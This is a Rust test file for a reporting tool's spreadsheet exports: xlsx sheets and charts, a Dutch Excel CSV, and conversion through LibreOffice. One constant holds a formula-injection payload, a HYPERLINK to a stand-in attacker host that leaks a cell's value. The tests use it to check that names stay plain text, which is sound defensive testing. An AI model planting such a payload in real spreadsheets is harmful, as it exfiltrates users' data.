//! `ipart report` for spreadsheets: the Excel workbook (`--format xlsx`)
//! read back with calamine and opened in LibreOffice, its charts, the CSV
//! for Dutch Excel (`--excel`), and formula-like names kept as text in
//! every spreadsheet format.

mod common;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command as Process;

use calamine::{Data, Reader, Xlsx, open_workbook};
use common::{Reg, ipart};

/// A name that would run as a formula if a spreadsheet took it raw.
const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// Writes the demo's 2023 report (with `extra` arguments) to `name` in a
/// new temporary directory; returns both.
fn xlsx(extra: &[&str], name: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(name);
    let mut args = vec!["--demo", "report", "--year", "2023", "-o", file.to_str().unwrap()];
    args.extend_from_slice(extra);
    let out = ipart().args(&args).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(out.stdout.is_empty());
    (dir, file)
}

fn cell(range: &calamine::Range<Data>, row: u32, col: u32) -> Data {
    range.get_value((row, col)).cloned().unwrap_or(Data::Empty)
}

/// The row whose first cell is `label` (in a sheet's used range).
fn row_of(range: &calamine::Range<Data>, label: &str) -> u32 {
    (0..range.height() as u32)
        .find(|&r| cell(range, r, 0) == Data::String(label.into()))
        .unwrap_or_else(|| panic!("no row {label:?}"))
}

/// The text of a part of the xlsx zip.
fn part(file: &Path, name: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(file).unwrap()).unwrap();
    let mut text = String::new();
    zip.by_name(name).unwrap_or_else(|_| panic!("no part {name}")).read_to_string(&mut text).unwrap();
    text
}

fn parts(file: &Path) -> Vec<String> {
    let zip = zip::ZipArchive::new(std::fs::File::open(file).unwrap()).unwrap();
    zip.file_names().map(|n| n.unwrap().into_owned()).collect()
}

#[test]
fn the_workbook_has_a_sheet_per_section_with_typed_cells() {
    let (_dir, file) = xlsx(&["--by", "theme,level", "--compare", "2022"], "jaarverslag-2023.xlsx");
    let mut book: Xlsx<_> = open_workbook(&file).unwrap();
    assert_eq!(
        book.sheet_names(),
        [
            "Kerncijfers",
            "Partners",
            "Opdrachten",
            "Studenten",
            "Labs",
            "Communities",
            "Promovendi",
            "Cursussen en evenementen",
            "Curricula",
            "Leerstoelen",
            "Vragen",
            "Communicatie",
            "Verloop",
            "Wat niet optelt",
            "Kruistabel",
            "Vergelijking",
            "Definities",
        ]
    );
    // Key figures: numbers as numbers, labels in Dutch (the default).
    let key = book.worksheet_range("Kerncijfers").unwrap();
    assert_eq!(cell(&key, 0, 0), Data::String("I-Partnerschap jaarverslag — 2023".into()));
    for (label, value) in [
        ("Samenwerkingspartners rijksoverheid", 65.0),
        ("Samenwerkingspartners onderwijs", 34.0),
        ("Opdrachten en stages", 548.0),
        ("Opdrachten afgerond", 287.0),
        ("Opdrachten in voorbereiding", 58.0),
        ("Opdrachten in uitvoering", 54.0),
        ("Studenten geholpen aan een opdracht", 1235.0),
        ("Studenten geholpen aan een stage", 261.0),
        ("Actieve labs", 8.0),
        ("Communities", 4.0),
        ("Promovendi gestart", 13.0),
        ("Overheidsdeelnemers cursussen", 50.0),
        ("Deelnemers conferenties", 220.0),
    ] {
        assert_eq!(cell(&key, row_of(&key, label), 1), Data::Float(value), "{label}");
    }
    // Shares as fractions (shown as 64%), beside the counts.
    let hbo = row_of(&key, "HBO");
    assert_eq!((cell(&key, hbo, 1), cell(&key, hbo, 2)), (Data::Float(351.0), Data::Float(0.64)));
    let wo = row_of(&key, "WO");
    assert_eq!(cell(&key, wo, 2), Data::Float(0.33));
    assert_eq!(cell(&key, row_of(&key, "MBO"), 2), Data::Float(0.03));
    let communication = book.worksheet_range("Communicatie").unwrap();
    for (label, value) in [
        ("LinkedIn-volgers", 1700.0),
        ("Websitebezoekers, nieuw (%)", 75.0),
        ("Websitebezoekers, terugkerend (%)", 25.0),
    ] {
        assert_eq!(cell(&communication, row_of(&communication, label), 1), Data::Float(value), "{label}");
    }
    let themes = book.worksheet_range("Opdrachten").unwrap();
    assert_eq!(cell(&themes, row_of(&themes, "Datamanagement & AI"), 1), Data::Float(150.0));
    // Dates as dates: the trend's "counted on" column.
    let trend = book.worksheet_range("Verloop").unwrap();
    let q4 = row_of(&trend, "2023-Q4");
    match cell(&trend, q4, 1) {
        Data::DateTime(d) => assert_eq!(d.as_f64(), 45291.0, "2023-12-31 is day 45291 of Excel's calendar"),
        other => panic!("the trend's date is {other:?}, not a date"),
    }
    assert_eq!((cell(&trend, q4, 3), cell(&trend, q4, 4)), (Data::Float(54.0), Data::Float(287.0)));
    let labs = book.worksheet_range("Labs").unwrap();
    assert!(matches!(cell(&labs, row_of(&labs, "Elsa Lab"), 3), Data::DateTime(_)));
    // The cross table sums to all 548; the comparison names both years.
    let cross = book.worksheet_range("Kruistabel").unwrap();
    let totals = row_of(&cross, "totaal");
    assert_eq!(cell(&cross, totals, 4), Data::Float(548.0));
    let compare = book.worksheet_range("Vergelijking").unwrap();
    let header = row_of(&compare, "cijfer");
    assert_eq!(
        (cell(&compare, header, 1), cell(&compare, header, 2)),
        (Data::String("2023".into()), Data::String("2022".into()))
    );
}

#[test]
fn shares_carry_the_percent_format() {
    let (_dir, file) = xlsx(&[], "r.xlsx");
    // The number format "0%", the cell style that uses it, and the share cells of the assignments sheet.
    let styles = part(&file, "xl/styles.xml");
    let id = styles.split("<numFmt ").find(|f| f.contains("formatCode=\"0%\"")).expect("a 0% format");
    let id = &id[id.find("numFmtId=\"").unwrap() + 10..];
    let id = &id[..id.find('"').unwrap()];
    let xfs = &styles[styles.find("<cellXfs").unwrap()..styles.find("</cellXfs>").unwrap()];
    let percent =
        xfs.split("<xf ").skip(1).position(|xf| xf.contains(&format!("numFmtId=\"{id}\""))).expect("a 0% style");
    let sheet = part(&file, "xl/worksheets/sheet3.xml");
    let shares = sheet.matches(&format!(" s=\"{percent}\"")).count();
    // status 5, level 3, theme 7 (IT-Change has none, but is a theme), kind 4 rows.
    assert_eq!(shares, 5 + 3 + 7 + 4, "{sheet}");
}

#[test]
fn native_charts_of_status_level_theme_and_the_trend() {
    let (_dir, file) = xlsx(&[], "r.xlsx");
    let all = parts(&file);
    let mut charts: Vec<&String> = all.iter().filter(|p| p.starts_with("xl/charts/chart")).collect();
    charts.sort();
    assert_eq!(charts.len(), 4, "{all:?}");
    let kinds: Vec<String> = charts
        .iter()
        .map(|c| {
            let xml = part(&file, c);
            ["<c:barChart>", "<c:pieChart>", "<c:lineChart>"]
                .iter()
                .find(|k| xml.contains(**k))
                .map(|k| k.to_string())
                .unwrap_or_default()
                + if xml.contains("<c:barDir val=\"bar\"/>") { " bar" } else { "" }
        })
        .collect();
    assert_eq!(kinds, ["<c:barChart>", "<c:pieChart>", "<c:barChart> bar", "<c:lineChart>"]);
    // Each chart draws on the cells of its sheet.
    assert!(part(&file, "xl/charts/chart3.xml").contains("<c:f>Opdrachten!$B$"));
    assert!(part(&file, "xl/charts/chart4.xml").contains("<c:f>Verloop!$E$"));
    // The sheets reference their drawings, and the drawings the charts.
    let opdrachten = part(&file, "xl/worksheets/_rels/sheet3.xml.rels");
    let verloop = part(&file, "xl/worksheets/_rels/sheet13.xml.rels");
    assert!(opdrachten.contains("../drawings/drawing1.xml") && verloop.contains("../drawings/drawing2.xml"));
    assert!(part(&file, "xl/worksheets/sheet3.xml").contains("<drawing r:id="));
    let drawing = part(&file, "xl/drawings/_rels/drawing1.xml.rels");
    for chart in ["chart1.xml", "chart2.xml", "chart3.xml"] {
        assert!(drawing.contains(&format!("../charts/{chart}")), "{drawing}");
    }
    assert!(part(&file, "xl/drawings/_rels/drawing2.xml.rels").contains("../charts/chart4.xml"));
}

#[test]
fn the_workbook_speaks_english_when_asked_and_is_reproducible() {
    let (_dir, file) = xlsx(&["--lang", "en"], "report.xlsx");
    let mut book: Xlsx<_> = open_workbook(&file).unwrap();
    assert_eq!(&book.sheet_names()[..3], ["Key figures", "Partners", "Assignments"]);
    let a = book.worksheet_range("Assignments").unwrap();
    assert_eq!(cell(&a, row_of(&a, "in progress"), 1), Data::Float(54.0));
    // The same report is the same bytes (the creation date is today, IPART_TODAY in tests).
    let (_again, second) = xlsx(&["--lang", "en"], "report.xlsx");
    assert_eq!(std::fs::read(&file).unwrap(), std::fs::read(&second).unwrap());
}

#[test]
fn xlsx_goes_to_a_file_or_a_pipe_never_to_a_terminal() {
    // Piped: the bytes of a zip.
    let out = ipart().args(["--demo", "report", "--year", "2023", "--format", "xlsx"]).output().unwrap();
    assert!(out.status.success());
    assert!(out.stdout.starts_with(b"PK\x03\x04"));
    // On a terminal (a pseudo-terminal made by script(1)): refused, exit 2.
    if Process::new("script").arg("--version").output().is_err() {
        eprintln!("skipped: script(1) is not installed, no pseudo-terminal to test with");
        return;
    }
    let binary = assert_cmd::cargo::cargo_bin("ipart");
    let command = format!("{} --demo report --year 2023 --format xlsx", binary.display());
    let out = Process::new("script")
        .args(["-qec", &command, "/dev/null"])
        .env("IPART_TODAY", "2026-11-28")
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{shown}");
    assert!(shown.contains("binary workbook, not for a terminal") && shown.contains("-o FILE.xlsx"), "{shown}");
    assert!(!shown.contains("PK"), "{shown}");
}

#[test]
fn the_extension_chooses_xlsx_and_contradictions_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("x.xlsx");
    let path = file.to_str().unwrap();
    let out = ipart().args(["--demo", "report", "--year", "2023", "--format", "csv", "-o", path]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--format csv does not match the extension"));
    let out = ipart().args(["--demo", "report", "--year", "2023", "--excel", "-o", path]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--excel writes a CSV file, not .xlsx"));
    let out = ipart().args(["--demo", "report", "--year", "2023", "--excel", "--format", "json"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(!file.exists(), "nothing written after a refusal");
    ipart().args(["--demo", "report", "--year", "2023", "--format", "xlsx", "-o", path]).assert().success();
    assert!(std::fs::read(&file).unwrap().starts_with(b"PK"));
}

#[test]
fn excel_csv_is_semicolons_a_bom_and_dutch() {
    let out = ipart().args(["--demo", "report", "--year", "2023", "--excel"]).output().unwrap();
    assert!(out.status.success());
    let bytes = out.stdout;
    assert!(bytes.starts_with(b"\xEF\xBB\xBFI-Partnerschap jaarverslag \xE2\x80\x94 2023\r\n"), "{:?}", &bytes[..40]);
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(!text.replace("\r\n", "").contains('\n'), "every line ends in CRLF");
    // A title line, a header row, the rows; a blank line between tables.
    assert!(text.contains(
        "\r\n\r\nKerncijfers\r\ncijfer;waarde\r\nSamenwerkingspartners rijksoverheid;65\r\nSamenwerkingspartners onderwijs;34\r\nOpdrachten en stages;548\r\n"
    ));
    assert!(text.contains(
        "\r\nstatus;opdrachten;aandeel\r\nin voorbereiding;58;11%\r\nin uitvoering;54;10%\r\nafgerond;287;52%\r\n"
    ));
    assert!(text.contains("\r\nonderwijssoort;opdrachten;aandeel\r\nMBO;16;3%\r\nHBO;351;64%\r\nWO;181;33%\r\n"));
    assert!(text.contains("\r\nDatamanagement & AI;150;27%\r\n"), "theme names, not codes");
    // The trend: periods x statuses.
    assert!(text.contains("\r\nkwartaal;geteld op;in voorbereiding;in uitvoering;afgerond;geannuleerd;onbekend\r\n"));
    assert!(text.contains("\r\n2023-Q4;2023-12-31;58;54;287;112;37\r\n"));
    assert!(text.contains("\r\nLinkedIn-volgers;1700\r\n"));
    for line in [
        "Opdrachten afgerond;287",
        "Opdrachten in voorbereiding;58",
        "Opdrachten in uitvoering;54",
        "Studenten geholpen aan een opdracht;1235",
        "Studenten geholpen aan een stage;261",
        "Actieve labs;8",
        "Communities;4",
        "Promovendi gestart;13",
        "Overheidsdeelnemers cursussen;50",
        "Deelnemers conferenties;220",
        "Websitebezoekers, nieuw (%);75",
        "Websitebezoekers, terugkerend (%);25",
    ] {
        assert!(text.contains(&format!("\r\n{line}\r\n")), "{line}");
    }
    assert!(!text.contains("in_progress") && !text.contains(",548"));
    // --lang en: the same tables in English, still for Excel.
    let english = ipart().args(["--demo", "report", "--year", "2023", "--excel", "--lang", "en"]).output().unwrap();
    let english = String::from_utf8(english.stdout).unwrap();
    assert!(english.starts_with('\u{feff}') && english.contains("\r\nGovernment partners;65\r\n"));
}

#[test]
fn the_plain_csv_stays_long_english_and_comma_separated() {
    let out = ipart().args(["--demo", "report", "--year", "2023", "--format", "csv", "--lang", "nl"]).output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("section,dimension,value,count,share\n"));
    assert!(text.contains("\nassignments,status,in_progress,54,10\n"));
    let note = String::from_utf8(out.stderr).unwrap();
    assert!(note.contains("keeps codes") && note.contains("--excel"), "{note}");
}

/// A registry whose lab, partner and assignment carry formula-like names.
fn hostile() -> Reg {
    let reg = Reg::demo();
    reg.ok(&["lab", "add", EVIL, "--region", "west", "--status", "active", "--on", "2023-02-01"]);
    reg.ok(&["lab", "add", "+31 lab", "--region", "oost", "--status", "active", "--on", "2023-03-01"]);
    reg
}

#[test]
fn formula_like_names_stay_text_in_every_spreadsheet_format() {
    let reg = hostile();
    let csv = reg.ok(&["report", "--year", "2023", "--format", "csv"]);
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect();
    let lab = |name: &str| rows.iter().any(|r| r == vec!["lab", name, "active", "1", ""]);
    assert!(lab(&format!("'{EVIL}")), "{csv}");
    assert!(lab("'+31 lab"));
    assert!(!csv.lines().any(|l| l.split(',').any(|c| c.starts_with('=') || c.starts_with("\"="))), "{csv}");

    let out = reg.run(&["report", "--year", "2023", "--excel"]);
    let excel = String::from_utf8(out.stdout).unwrap();
    let quoted = format!("\"'{}\"", EVIL.replace('"', "\"\""));
    assert!(excel.contains(&format!("\r\n{quoted};West;actief;2023-02-01\r\n")), "{excel}");
    assert!(excel.contains("\r\n'+31 lab;Oost;actief;2023-03-01\r\n"));

    let file = reg.dir.path().join("labs.xlsx");
    reg.ok(&["report", "--year", "2023", "-o", file.to_str().unwrap()]);
    let mut book: Xlsx<_> = open_workbook(&file).unwrap();
    let labs = book.worksheet_range("Labs").unwrap();
    row_of(&labs, EVIL);
    assert!(!part(&file, "xl/worksheets/sheet5.xml").contains("<f>"), "no formula cells");
}

/// LibreOffice converts every sheet of `file` to CSV in `out`; None when it is not installed.
fn libreoffice_csv(file: &Path, out: &Path) -> Option<()> {
    let Ok(version) = Process::new("libreoffice").arg("--version").output() else {
        assert!(std::env::var_os("CI").is_none(), "CI needs LibreOffice (.ci/run installs libreoffice-calc-nogui)");
        eprintln!("skipped: LibreOffice is not installed (apt-get install libreoffice-calc-nogui)");
        return None;
    };
    assert!(version.status.success());
    let profile = out.join("profile");
    let status = Process::new("libreoffice")
        .arg(format!("-env:UserInstallation=file://{}", profile.display()))
        .args(["--headless", "--convert-to"])
        // Comma, double quotes, UTF-8, every sheet to its own file (the last field, -1).
        .arg("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1")
        .arg("--outdir")
        .arg(out)
        .arg(file)
        .env("HOME", out)
        // Dates come out in the form of LibreOffice's locale: pin it.
        .env("LC_ALL", "C.UTF-8")
        .output()
        .unwrap();
    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
    Some(())
}

#[test]
fn libreoffice_opens_the_workbook() {
    let (dir, file) = xlsx(&[], "jaar.xlsx");
    let out = dir.path().join("converted");
    std::fs::create_dir(&out).unwrap();
    if libreoffice_csv(&file, &out).is_none() {
        return;
    }
    let sheet = |name: &str| {
        std::fs::read_to_string(out.join(format!("jaar-{name}.csv"))).unwrap_or_else(|e| {
            panic!("no sheet {name}: {e}; made {:?}", std::fs::read_dir(&out).unwrap().collect::<Vec<_>>())
        })
    };
    let key = sheet("Kerncijfers");
    assert!(key.contains("\nSamenwerkingspartners rijksoverheid,65,"), "{key}");
    assert!(key.contains("\nStudenten geholpen aan een opdracht,1235,"), "{key}");
    assert!(key.contains("\nHBO,351,64%\n"), "{key}");
    let assignments = sheet("Opdrachten");
    assert!(assignments.contains("\nafgerond,287,52%\n"), "{assignments}");
    // A date cell is a date to LibreOffice: it writes it in its own (en-US)
    // form, which ipart never writes; a text cell would come out as it was.
    let trend = sheet("Verloop");
    let q4: Vec<&str> = trend.lines().find(|l| l.starts_with("2023-Q4,")).expect("a 2023-Q4 row").split(',').collect();
    assert_eq!(q4[1], "12/31/2023", "{q4:?}");
    assert_eq!(q4[2..7], ["58", "54", "287", "112", "37"]);
    assert_eq!(
        std::fs::read_dir(&out).unwrap().filter(|e| e.as_ref().unwrap().path().extension().is_some()).count(),
        15,
        "a file per sheet"
    );
}
